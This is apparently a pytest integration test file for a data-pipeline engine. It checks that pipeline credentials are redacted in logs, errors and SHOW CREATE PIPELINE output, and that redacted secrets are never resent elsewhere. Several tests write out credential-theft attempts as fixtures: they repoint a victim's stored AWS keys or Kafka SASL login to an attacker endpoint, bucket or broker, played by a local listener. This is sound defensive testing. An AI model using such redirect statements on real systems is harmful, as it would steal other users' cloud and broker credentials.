"""CREDENTIALS never show: not in views, logs, errors, SHOW CREATE PIPELINE or the catalog's
definition column; given back as ``<redacted>`` they are kept only for where they were
sent (a listener on 127.0.0.1 stands in for an attacker's endpoint)."""

from __future__ import annotations

import json
import logging

import pytest

from sparkpipes.catalog.views import VIEWS
from sparkpipes.errors import ConfigError, SparkpipesError
from sparkpipes.frontends.singlestore.executor import SqlSession
from sparkpipes.testing import MotoServer
from tests.integration.attacker import Listener

SECRETS = ("Us3r-N4me-x", "P4ss-W0rd-y", "K3y-Pw-z", "MIIEvQIBADANBgkqPr1v4teK3y")
#: a client's private key given inline, as librdkafka's ssl.key.pem takes it
KEY_PEM = f"-----BEGIN PRIVATE KEY-----\n{SECRETS[3]}\n-----END PRIVATE KEY-----\n"


def test_credentials_never_appear_anywhere(engine, broker, topic, caplog, capfd):
    caplog.set_level(logging.DEBUG)
    sql = SqlSession(engine)
    creds = json.dumps(
        {
            "sasl.username": SECRETS[0],
            "sasl.password": SECRETS[1],
            "ssl.key.password": SECRETS[2],
            "ssl.key.pem": KEY_PEM,
        }
    ).replace("\\", "\\\\")  # a SQL string reads backslash escapes
    broker.produce(topic, [json.dumps({"a": 1}), "{broken"], partitions=4)
    seen: list[str] = []
    sql.execute("CREATE TABLE t (a INT)")
    sql.execute(
        f"CREATE PIPELINE good AS LOAD DATA KAFKA '{broker.bootstrap}/{topic}' "
        f"CREDENTIALS '{creds}' INTO TABLE t FORMAT JSON"
    )
    # a failing batch (bad record), a pipeline whose broker is unreachable, a bad option
    for stmt in (
        "START PIPELINE good FOREGROUND",
        f"CREATE PIPELINE down AS LOAD DATA KAFKA '127.0.0.1:1/{topic}' CREDENTIALS '{creds}' "
        "MAX_RETRIES_PER_BATCH_PARTITION 0 INTO TABLE t",
        f"CREATE PIPELINE down AS LOAD DATA KAFKA '127.0.0.1:1/{topic}' CREDENTIALS '{creds}' "
        "MAX_RETRIES_PER_BATCH_PARTITION 0 SKIP SOURCE CHECK INTO TABLE t",
        "START PIPELINE down FOREGROUND",
        f"CREATE PIPELINE bad AS LOAD DATA KAFKA 'h:1/x' CONFIG '{{\"linger.ms\": 1}}' "
        f"CREDENTIALS '{creds}' INTO TABLE t",
        "CREATE PIPELINE leak AS LOAD DATA KAFKA 'h:1/x' "
        f'CONFIG \'{{"sasl.password": "{SECRETS[1]}"}}\' INTO TABLE t',
        # the held-out review's repro: a private key in CONFIG (refused, never echoed)
        "CREATE PIPELINE leakpem AS LOAD DATA KAFKA 'h:1/x' "
        "CONFIG '" + json.dumps({"ssl.key.pem": KEY_PEM}).replace("\\", "\\\\") + "' INTO TABLE t",
        # errors that echo the statement: a syntax error and a missing table after it
        f"CREATE PIPELINE typo AS LOAD DATA KAFKA 'h:1/x' CREDENTIALS '{creds}' INTO TABEL t",
        f"CREATE PIPELINE nt AS LOAD DATA KAFKA 'h:1/x'\n CREDENTIALS\n '{creds}' INTO TABLE nt",
        f"CREATE PIPELINE bad2 AS LOAD DATA KAFKA 'h:1/x' CREDENTIALS '[\"{SECRETS[0]}\"]' INTO TABLE t",
    ):
        try:
            for r in sql.execute(stmt):
                seen.append(str(r))
        except SparkpipesError as e:
            seen.append(str(e))
            seen.append(repr(e.to_dict()))
    assert any("cannot decode" in s for s in seen)
    assert any("cannot reach Kafka" in s for s in seen)
    assert any("is a secret: give it in CREDENTIALS" in s for s in seen)
    assert any("'ssl.key.pem' is a secret: give it in CREDENTIALS" in s for s in seen)
    assert any("unexpected 'TABEL'" in s and "*****" in s for s in seen)
    assert any("table 'nt' does not exist" in s for s in seen)
    assert any("CREDENTIALS must be a JSON object" in s for s in seen)

    for r in sql.execute("SHOW CREATE PIPELINE good; SHOW CREATE PIPELINE down; SHOW PIPELINES"):
        seen.append(str(r.rows))
    for view in VIEWS:
        (r,) = sql.execute(f"SELECT * FROM information_schema.{view}")
        seen.append(str(r.rows))
    seen.append(str(engine.pipelines()))
    seen.append(str(engine.spec("good")))
    seen.append(json.dumps(engine.spec("good").to_json()))
    seen.extend(rec.getMessage() for rec in caplog.records)
    out, err = capfd.readouterr()
    seen.extend([out, err])
    text = "\n".join(seen)
    for secret in SECRETS:
        assert secret not in text, f"secret {secret!r} leaked"
    assert "<redacted>" in text
    # but the engine itself still has them, to connect with
    assert engine.catalog.pipelines.credentials("good")["sasl.password"] == SECRETS[1]


# -- a secret given back as <redacted> is sent nowhere new ------------------------------
VICTIM = {
    "aws_access_key_id": "AKIAVICTIM",
    "aws_secret_access_key": "VICTIMSECRET",
    "aws_session_token": "VICTIMSESSIONTOKEN",
}
SHOWN = json.dumps(dict.fromkeys(VICTIM, "<redacted>"))


def test_a_redacted_s3_secret_is_not_sent_to_the_attackers_endpoint(engine):
    """The held-out review's repro: bo, allowed to replace and to change pipeline s3p (a
    user without ALTER PIPELINE may not keep its secrets at all), re-creates it with
    the credentials as SHOW CREATE PIPELINE shows them, another bucket and his own
    endpoint. Refused before any request: the listener standing in for his endpoint gets
    nothing, the stored pipeline and its secrets stay as they were."""
    owner = SqlSession(engine)
    owner.execute(
        "CREATE TABLE secret (a BIGINT); CREATE TABLE bo_t (a BIGINT);"
        "CREATE USER ana IDENTIFIED BY 'ana-pw'; CREATE USER bo IDENTIFIED BY 'bo-pw';"
        "CREATE PIPELINE s3p AS LOAD DATA S3 'corpbucket/private/' "
        f"CONFIG '{{\"region\": \"us-east-1\"}}' CREDENTIALS '{json.dumps(VICTIM)}' "
        "SKIP SOURCE CHECK INTO TABLE secret;"
        "GRANT CREATE PIPELINE, DROP PIPELINE, ALTER PIPELINE, SHOW PIPELINE, START PIPELINE "
        "ON s3p TO bo;"
        "GRANT INSERT ON bo_t TO bo"
    )
    before = (engine.pipeline("s3p").definition, engine.catalog.pipelines.credentials("s3p"))
    bo = SqlSession(engine, user="bo")
    seen: list[str] = []
    with Listener() as evil:
        endpoint = json.dumps({"region": "us-east-1", "endpoint_url": evil.url})
        attack = (
            "CREATE OR REPLACE PIPELINE s3p AS LOAD DATA S3 'attackerbucket/x/' "
            f"CONFIG '{endpoint}' CREDENTIALS '{SHOWN}' INTO TABLE bo_t FORMAT JSON"
        )
        for stmt, says in (
            (attack, "but the location, CONFIG option 'endpoint_url' differ"),
            (  # only the endpoint
                attack.replace("attackerbucket/x/", "corpbucket/private/"),
                "but CONFIG option 'endpoint_url' differs",
            ),
            (  # only the bucket (the same endpoint: AWS's, by the region)
                attack.replace(endpoint, '{"region": "us-east-1"}'),
                "but the location differs",
            ),
            (attack.replace("INTO TABLE", "SKIP SOURCE CHECK INTO TABLE"), "give the value again"),
            (  # without OR REPLACE (no DROP PIPELINE needed): nothing is kept at all
                attack.replace("CREATE OR REPLACE", "CREATE"),
                "only CREATE OR REPLACE of an existing pipeline keeps its stored value",
            ),
        ):
            with pytest.raises(ConfigError) as e:
                bo.execute(stmt)
            assert says in str(e.value), str(e.value)
            seen += [str(e.value), repr(e.value.to_dict())]
        # the listener does hear a source check: the owner's own pipeline with its own keys
        with pytest.raises(SparkpipesError):
            owner.execute(
                attack.replace("OR REPLACE PIPELINE s3p", "PIPELINE control").replace(
                    SHOWN, '{"aws_access_key_id": "AKIAOWN", "aws_secret_access_key": "own"}'
                )
            )
        assert b"Credential=AKIAOWN/" in evil.received
        assert evil.connections >= 1
    for secret in VICTIM.values():
        assert secret.encode() not in evil.received
        assert all(secret not in s for s in seen)
    assert "give the value again" in seen[0] and "aws_session_token" in seen[0]
    assert (
        engine.pipeline("s3p").definition,
        engine.catalog.pipelines.credentials("s3p"),
    ) == before
    assert engine.spec("s3p").table == "secret"


def test_show_create_run_again_keeps_an_s3_secret_for_the_same_store_only(engine):
    """The round trip: SHOW CREATE PIPELINE's text run again as CREATE OR REPLACE with the
    batch interval and the table changed logs in with the kept secret (moto checks the
    signature) and loads; the same text with the endpoint moved is refused, unsent."""
    with MotoServer(authentication=True) as s3:
        s3.create_bucket("kept")
        s3.put("kept", "in/a.json", b'{"a": 1}\n{"a": 2}\n')
        keys = {
            "aws_access_key_id": s3.access_key_id,
            "aws_secret_access_key": s3.secret_access_key,
        }
        config = json.dumps({"endpoint_url": s3.endpoint_url, "region": "us-east-1"})
        sql = SqlSession(engine)
        sql.execute("CREATE TABLE t (a BIGINT); CREATE TABLE t2 (a BIGINT)")
        sql.execute(
            f"CREATE PIPELINE sp AS LOAD DATA S3 'kept/in/' CONFIG '{config}' "
            f"CREDENTIALS '{json.dumps(keys)}' INTO TABLE t FORMAT JSON"
        )
        shown = sql.execute("SHOW CREATE PIPELINE sp")[0].rows[0][1]
        assert '"aws_secret_access_key": "<redacted>"' in shown
        again = (
            shown.replace("CREATE PIPELINE", "CREATE OR REPLACE PIPELINE")
            .replace("BATCH_INTERVAL 2500", "BATCH_INTERVAL 100")
            .replace("INTO TABLE t ", "INTO TABLE t2 ")
        )
        (done,) = sql.execute(again)  # the source check signs with the kept keys
        assert "Query OK" in done.message
        assert engine.catalog.pipelines.credentials("sp") == keys
        assert engine.spec("sp").batch.interval_ms == 100
        sql.execute("START PIPELINE sp FOREGROUND")
        assert sql.execute("SELECT count(*) FROM t2")[0].rows == [(2,)]
        with Listener() as evil:
            with pytest.raises(ConfigError, match="CONFIG option 'endpoint_url' differs"):
                sql.execute(again.replace(s3.endpoint_url, evil.url))
            assert evil.connections == 0
        assert engine.catalog.pipelines.credentials("sp") == keys


def test_a_redacted_kafka_login_is_not_sent_to_another_broker(engine, broker, topic):
    """SASL credentials given back as <redacted>: kept when only the batch options and the
    table change (the source check still reaches the broker); refused, before any
    connection, when the broker, the topic, bootstrap.servers or the wire's security
    change — SASL_PLAINTEXT to the attacker's host would carry the password in clear."""
    sql = SqlSession(engine)
    creds = {"sasl.username": SECRETS[0], "sasl.password": SECRETS[1]}
    sql.execute("CREATE TABLE t (a INT); CREATE TABLE t2 (a INT)")
    sql.execute(
        f"CREATE PIPELINE kp AS LOAD DATA KAFKA '{broker.bootstrap}/{topic}' "
        f"CREDENTIALS '{json.dumps(creds)}' INTO TABLE t"
    )
    shown = sql.execute("SHOW CREATE PIPELINE kp")[0].rows[0][1]
    again = shown.replace("CREATE PIPELINE", "CREATE OR REPLACE PIPELINE")
    (done,) = sql.execute(
        again.replace("BATCH_INTERVAL 2500", "BATCH_INTERVAL 50").replace(
            "INTO TABLE t", "INTO TABLE t2"
        )
    )
    assert f"topic '{topic}' answered" in done.message
    assert engine.catalog.pipelines.credentials("kp") == creds and engine.spec("kp").table == "t2"
    wire = '{"security.protocol": "SASL_PLAINTEXT", "sasl.mechanism": "PLAIN"}'
    seen = []
    with Listener() as evil:
        for stmt, says in (
            (
                again.replace(broker.bootstrap, evil.hostport).replace(
                    "INTO TABLE", f"CONFIG '{wire}' INTO TABLE"
                ),
                "but the location, CONFIG option 'sasl.mechanism', CONFIG option "
                "'security.protocol' differ",
            ),
            (
                again.replace(
                    "INTO TABLE",
                    f'CONFIG \'{{"bootstrap.servers": "{evil.hostport}"}}\' INTO TABLE',
                ),
                "but CONFIG option 'bootstrap.servers' differs",
            ),
            (again.replace(f"/{topic}'", "/payroll'"), "but the location differs"),
            (
                again.replace("INTO TABLE", f"CONFIG '{wire}' INTO TABLE"),
                "CONFIG option 'security.protocol' differ",
            ),
        ):
            with pytest.raises(ConfigError) as e:
                sql.execute(stmt)
            assert says in str(e.value), str(e.value)
            assert "credential 'sasl.password', credential 'sasl.username' are" in str(e.value)
            seen.append(str(e.value))
        assert evil.connections == 0 and evil.received == b""
    assert engine.catalog.pipelines.credentials("kp") == creds
    assert all(s not in text for s in SECRETS for text in seen)
